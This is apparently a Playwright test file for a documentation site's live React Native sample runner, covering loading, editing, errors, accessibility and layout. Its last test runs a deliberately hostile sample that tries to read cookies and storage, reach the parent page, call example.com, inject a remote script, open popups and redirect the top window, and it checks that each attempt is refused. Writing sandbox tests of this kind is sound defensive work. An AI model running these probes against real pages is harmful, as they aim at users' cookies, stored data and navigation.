// A sample that runs next to its code, and what a reader makes of it.
import type { Page } from '@playwright/test';
import { axeFaults, axeFaultsInBothModes } from './axe';
import { drawn, expect, hydrated, open, test } from './fixtures';
import { middleOf } from './liveDemo';
import { edit, field, run } from './sampleFrame';

const phoneOf = (page: Page) => page.locator('[data-language] [data-state]');
const app = (code: string) =>
  `import { Text } from 'react-native';\nexport default function App() {\n  ${code}\n  return <Text>ready</Text>;\n}\n`;

test('nothing of the runner loads before it is wanted, and its compiler with the first edit', async ({
  page,
}) => {
  const loaded: string[] = [];
  page.on('request', (request) => loaded.push(request.url()));
  await open(page, 'usage');
  await page.mouse.wheel(0, 3000);
  await drawn(page);
  const ours = /runner|assets\/phone|sucrase|assets\/samples|sample\./;
  expect(loaded.filter((address) => ours.test(address))).toEqual([]);
  await page.locator('[data-run]').nth(1).hover();
  await expect
    .poll(() => loaded.filter((address) => address.includes('assets/phone')))
    .toHaveLength(1);
  await run(page, 1);
  expect(
    loaded.filter((address) => address.includes('assets/phone/runtime')),
  ).toHaveLength(1);
  expect(loaded.filter((address) => address.includes('sucrase'))).toEqual([]);
  // Another sample ends this one, and loads none of it again.
  await run(page, 2);
  await expect(page.locator('iframe')).toHaveCount(1);
  expect(
    loaded.filter((address) => address.includes('assets/phone/runtime')),
  ).toHaveLength(1);
  await page.getByRole('button', { name: 'Stop', exact: true }).press('Enter');
  await expect(page.locator('iframe')).toHaveCount(0);
  await expect(page.locator('[data-run]').nth(2)).toBeFocused();
});

test('an edit runs, is copied and opened in Snack, and is there again after a reload, until it is reset', async ({
  page,
  context,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  const area = await edit(page);
  const original = await area.inputValue();
  await area.fill(original.replace('Drag me down to close me.', 'Edited'));
  const inFrame = page.frameLocator('iframe');
  await expect(inFrame.getByText('Edited')).toBeAttached();
  await page.evaluate(() => {
    document.documentElement.dataset.theme = 'dark';
  });
  await expect(inFrame.locator('html')).toHaveAttribute('data-theme', 'dark');
  await expect(area).toHaveValue(/Edited/);
  const block = page.locator('[data-language]:has(iframe)');
  await block.getByRole('button', { name: /^Copy/ }).press('Enter');
  await expect
    .poll(() => page.evaluate(() => navigator.clipboard.readText()))
    .toBe(original.replace('Drag me down to close me.', 'Edited'));
  const snack = block.getByRole('link', { name: 'Open in Snack' });
  await expect(snack).toHaveAttribute('href', /Edited/);

  await page.reload();
  await hydrated(page);
  await expect(page.locator('iframe')).toHaveCount(0);
  await run(page, 1);
  await expect(inFrame.getByText('Edited')).toBeAttached();
  await page.getByRole('button', { name: 'Reset code' }).press('Enter');
  await expect(field(page)).toHaveCount(0);
  await expect(inFrame.getByText('Drag me down')).toBeAttached();
});

test('a sample that runs, one that is edited, and one that failed have no accessibility faults', async ({
  page,
}) => {
  const area = await edit(page);
  const include = '[data-language]:has(iframe)';
  expect(await axeFaults(page, { include })).toEqual([]);
  await area.fill(app('const = 1; // a comment'));
  await expect(phoneOf(page).getByRole('alert')).toBeVisible();
  expect(await axeFaultsInBothModes(page, { include })).toEqual([]);
});

test('nothing typed is lost while the page is open where storage is refused', async ({
  page,
}) => {
  await page.addInitScript(() => {
    Object.defineProperty(window, 'sessionStorage', {
      get() {
        throw new Error('refused');
      },
    });
  });
  const area = await edit(page);
  await area.fill(app(''));
  const inFrame = page.frameLocator('iframe');
  await expect(inFrame.getByText('ready')).toBeVisible();
  await page.getByRole('button', { name: /^Stop App/ }).press('Enter');
  await run(page, 1);
  await expect(inFrame.getByText('ready')).toBeVisible();
});

test('what does not load is tried again, and the page stays', async ({
  page,
  allowedProblems,
}) => {
  allowedProblems.push(/Failed to load resource|Failed to fetch/);
  await open(page, 'usage');
  for (const file of [/js\/runner\./, /phone\/runtime\./]) {
    await page.route(file, (route) => route.abort());
  }
  const button = page.locator('[data-run]').nth(1);
  await button.press('Enter');
  await expect(button).toHaveText('Try again');
  await page.unroute(/js\/runner\./);
  await button.press('Enter');
  await expect(phoneOf(page).getByRole('alert')).toBeVisible();
  await page.unroute(/phone\/runtime\./);
  await page.getByRole('button', { name: 'Restart' }).press('Enter');
  await expect(phoneOf(page)).toHaveAttribute('data-state', 'running');
});

test('what is wrong is said with its line, a loop that never ends is stopped, a later edit runs, and the Tab key leaves the field', async ({
  page,
  allowedProblems,
}) => {
  allowedProblems.push(/./);
  const area = await edit(page);
  const phone = phoneOf(page);
  for (const [code, ...words] of [
    ['for (;;);', 'Line 3', 'A loop did not end'],
    ['const = 1;', 'Line 3, column 9', 'Unexpected token'],
    ['throw new Error("own words");', 'Line 3', 'own words'],
    ['return <Text>{{} as never}</Text>;', 'Objects cannot be rendered'],
  ] as const) {
    await area.fill(app(code));
    for (const text of words) {
      await expect(phone.getByRole('alert')).toContainText(text);
    }
  }
  await area.fill("import a from 'lodash';\nexport default a;");
  await expect(phone.getByRole('alert')).toContainText('"lodash" is not here');
  await area.fill(app('console.log("written", { a: 1 });'));
  await expect(phone.getByRole('alert')).toHaveCount(0);
  await expect(page.getByRole('log')).toHaveText('written {"a":1}');
  await expect(page.frameLocator('iframe').getByText('ready')).toBeVisible();
  await area.press('Tab');
  await expect(area).not.toBeFocused();
});

const ANIMATED = `import { useState } from 'react';
import { Button, Text } from 'react-native';
import Animated, { runOnJS, useAnimatedReaction, useAnimatedStyle, useDerivedValue, useSharedValue } from 'react-native-reanimated';
export default function App() {
  const isOn = useSharedValue(false);
  const x = useSharedValue(1);
  const twice = useDerivedValue(() => x.value * 2);
  const style = useAnimatedStyle(() => ({ width: isOn.value ? twice.value * 10 : 5 }));
  const [seen, setSeen] = useState('nothing');
  useAnimatedReaction(
    () => x.value,
    (now, before) => { if (now !== before) runOnJS(setSeen)(before + ' to ' + now); },
  );
  return <>
    <Text style={{ height: 60 }}>{seen}</Text>
    <Button title="On" onPress={() => { isOn.value = true; }} />
    <Button title="Add" onPress={() => { x.value += 1; }} />
    <Animated.View testID="box" style={[{ height: 20 }, style]} />
  </>;
}`;

const SAFE_AREA = `import { useContext } from 'react';
import { Text } from 'react-native';
import {
  initialWindowMetrics, SafeAreaInsetsContext, SafeAreaProvider, SafeAreaView,
  useSafeAreaFrame, useSafeAreaInsets, withSafeAreaInsets,
} from 'react-native-safe-area-context';

const Wrapped = withSafeAreaInsets(({ insets }) => <Text>wrapped {insets.top}</Text>);

function Screen() {
  const { width, height } = useSafeAreaFrame();
  const frame = initialWindowMetrics?.frame;
  const isSame = width === frame?.width && height === frame.height && width > 0;
  const { top } = useSafeAreaInsets();
  return <Text>read {top} {useContext(SafeAreaInsetsContext)?.top} {String(isSame)}</Text>;
}

export default function App() {
  return (
    <SafeAreaProvider initialMetrics={initialWindowMetrics}>
      <SafeAreaView edges={['bottom']} style={{ backgroundColor: 'red' }} testID="bottom">
        <Wrapped />
        <Screen />
      </SafeAreaView>
      <SafeAreaView edges={{ top: 'additive', bottom: 'off' }} testID="top" />
      <SafeAreaView testID="all" />
    </SafeAreaProvider>
  );
}`;

test('an animated style follows the shared values that it reads, also those of one branch, and a program is told the safe area', async ({
  page,
}) => {
  const area = await edit(page);
  await area.fill(ANIMATED);
  const inFrame = page.frameLocator('iframe');
  const box = inFrame.getByTestId('box');
  await expect(box).toHaveCSS('width', '5px');
  const press = async (text: string) => {
    const { x, y } = await middleOf(inFrame.getByText(text, { exact: true }));
    await page.mouse.click(x, y);
  };
  await press('On');
  await expect(box).toHaveCSS('width', '20px');
  await press('Add');
  await expect(box).toHaveCSS('width', '40px');
  await expect(inFrame.getByText('1 to 2')).toBeVisible();

  await area.fill(SAFE_AREA);
  await expect(inFrame.getByText('wrapped 44')).toBeVisible();
  await expect(inFrame.getByText('read 44 44 true')).toBeVisible();
  for (const [name, padding] of [
    ['bottom', '0px 0px 20px'],
    ['top', '44px 0px 0px'],
    ['all', '44px 0px 20px'],
  ] as const) {
    await expect(inFrame.getByTestId(name)).toHaveCSS('padding', padding);
  }
});

/** What a program tries that is to harm its reader, a name and a statement each. */
const ATTEMPTS = `
storage: localStorage.length
cookie: document.cookie
database: await event(indexedDB.open('a'), 'success')
page: parent.document.title
address: top!.location.href
network: await fetch('https://example.com/')
site: await fetch('/react-native-bottom-sheet/')
socket: await event(new WebSocket('wss://example.com'), 'open')
beacon: await event(Object.assign(new Image(), { src: 'https://example.com/i.png' }))
script: await event(add('script', 'https://example.com/s.js'))
popup: if (open('https://example.com/') === null) throw 0
worker: new SharedWorker('data:,')
leaving: top!.location.href = 'https://example.com/'`
  .trim()
  .split('\n')
  .map((line) => line.split(/: (.*)/s) as [name: string, code: string]);

const HOSTILE = `import * as React from 'react';
const event = (on: EventTarget, done = 'load') => new Promise((yes, no) => {
  on.addEventListener(done, yes);
  on.addEventListener('error', no);
});
const add = (name: string, src: string) =>
  document.body.appendChild(Object.assign(document.createElement(name), { src }));
async function attack() {
${ATTEMPTS.map(([name, code]) => `  try { ${code}; console.log('${name}: done'); } catch { console.log('${name}: refused'); }`).join('\n')}
}
export default function App() {
  React.useEffect(() => { void attack(); }, []);
  return null;
}`;

test.describe('a hostile program', () => {
  test.use({ outsideIsAnswered: true });

  test('reaches no storage, no network, no other window and not the page, is closed when it writes without end, and what it writes is text', async ({
    page,
    allowedProblems,
    outsideRequests,
  }) => {
    allowedProblems.push(/./);
    const area = await edit(page);
    await area.fill(HOSTILE);
    await expect(page.getByRole('log')).toContainText('leaving');
    const lines = (await page.getByRole('log').innerText()).split('\n');
    expect(lines).toEqual(ATTEMPTS.map(([name]) => `${name}: refused`));
    expect(outsideRequests()).toEqual([]);
    await expect(page).toHaveURL(/usage$/);
    expect(page.context().pages()).toHaveLength(1);

    await area.fill(
      app('for (let i = 0; i < 2000; i += 1) console.log("<b>bold</b>");'),
    );
    await expect(phoneOf(page).getByRole('alert')).toContainText('without end');
    await expect(page.locator('iframe')).toHaveCount(0);
    await expect(page.getByRole('log')).toContainText('<b>bold</b>');
  });
});
